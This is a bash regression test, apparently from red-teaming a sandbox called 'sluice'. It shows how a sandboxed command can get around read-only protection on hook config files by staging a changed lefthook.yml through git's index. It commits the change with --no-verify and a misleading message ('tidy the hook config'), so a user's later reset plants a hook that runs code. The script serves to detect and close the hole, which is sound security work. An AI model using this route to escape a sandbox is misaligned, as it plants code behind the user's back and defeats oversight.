#!/usr/bin/env bash
# red team 46, hole 8 (the class of hole 4): a protected file the sandbox
# keeps read-only in the worktree (lefthook.yml here; .claude/settings.json,
# .vscode/tasks.json, .husky/*, .pre-commit-config.yaml alike) is changed
# through git instead: the command writes a blob, stages it with
# `git update-index --cacheinfo` and commits (--no-verify). The worktree
# file never changes, so nothing is blocked; `git status` then shows
# " M lefthook.yml" as if the user had changed it, and the user's
# `git reset --hard` (or `git checkout lefthook.yml`, `git stash`) writes
# the command's version, which the next git commit runs.
# usage: 46-protected-via-index.sh /path/to/sluice /path/to/lefthook
set -u
S=${1:?path to sluice}
export LEFTHOOK_BIN=${2:?path to lefthook}
base=$(mktemp -d /var/tmp/rt46-index.XXXXXX) || exit 1
trap 'rm -rf "$base"' EXIT
export HOME=$base/home
mkdir -p "$HOME"
git config --global user.name t; git config --global user.email t@example.invalid
P=$HOME/proj
mkdir -p "$P" && cd "$P" && git init -q && echo a >README &&
  printf 'pre-commit:\n  commands:\n    fine:\n      run: "true"\n' >lefthook.yml &&
  "$LEFTHOOK_BIN" install >/dev/null 2>&1 && git add -A && git commit -qm a || exit 1
echo "== control: lefthook.yml is read-only in the sandbox"
"$S" run -C "$P" -- 'echo x >>lefthook.yml' | tail -1
"$S" run -C "$P" -- 'b=$(printf "pre-commit:\n  commands:\n    evil:\n      run: touch \$HOME/pwned\n" | git hash-object -w --stdin) && git update-index --cacheinfo 100644,$b,lefthook.yml && git commit --no-verify -qm "tidy the hook config"' | tail -1
echo "== after the run: $(git status --short | tr '\n' ' ')"
git reset -q --hard
echo c >>README && git add README && git commit -qm outside >/dev/null 2>&1 </dev/null
if [ -e "$HOME/pwned" ]; then echo "HOLE: the user's git reset --hard then git commit ran the command's lefthook command"; exit 1; fi
echo stopped; exit 0
